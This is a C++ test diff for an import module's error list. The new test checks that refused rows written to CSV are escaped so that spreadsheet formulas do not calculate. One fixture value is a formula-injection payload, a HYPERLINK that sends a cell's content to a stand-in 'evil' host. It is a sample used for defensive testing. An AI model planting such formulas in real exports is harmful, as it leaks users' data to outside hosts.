@@ -11,6 +11,7 @@
 
 #include "intake/intake_test_folder.h"
 #include "ledger/bounds.h"
+#include "intake/row_errors.h"
 
 namespace kokemus::intake {
 namespace {
@@ -164,6 +165,19 @@ TEST(Import, tells_each_bad_row_with_its_line_and_takes_the_rest) {
     EXPECT_THAT(folder.read("errors.csv"),
                 HasSubstr("orders.csv,5,score,eleven,is not a number\n"));
     EXPECT_EQ(report->errors_file, folder.path() / "errors.csv");
+}
+
+/// People open the list in a spreadsheet, and strangers wrote what is in it.
+TEST(Import, lists_refused_rows_so_that_nothing_calculates) {
+    TestFolder folder;
+    RowErrors errors(folder.path() / "list.csv");
+    ASSERT_TRUE(errors.add({"a.csv", 2, false, "@sum", R"(=HYPERLINK("http://evil/?"&B1))", "no"}));
+    ASSERT_TRUE(errors.add({"a.csv", 3, false, "score", "-12", "is too small"}));
+    ASSERT_TRUE(errors.finish());
+    EXPECT_EQ(folder.read("list.csv"),
+              "file,line,column,value,reason\n"
+              "a.csv,2,'@sum,\"'=HYPERLINK(\"\"http://evil/?\"\"&B1)\",no\n"
+              "a.csv,3,score,-12,is too small\n");
 }
 
 TEST(Import, finds_lines_also_behind_blank_ones_a_mark_and_refused_ones) {
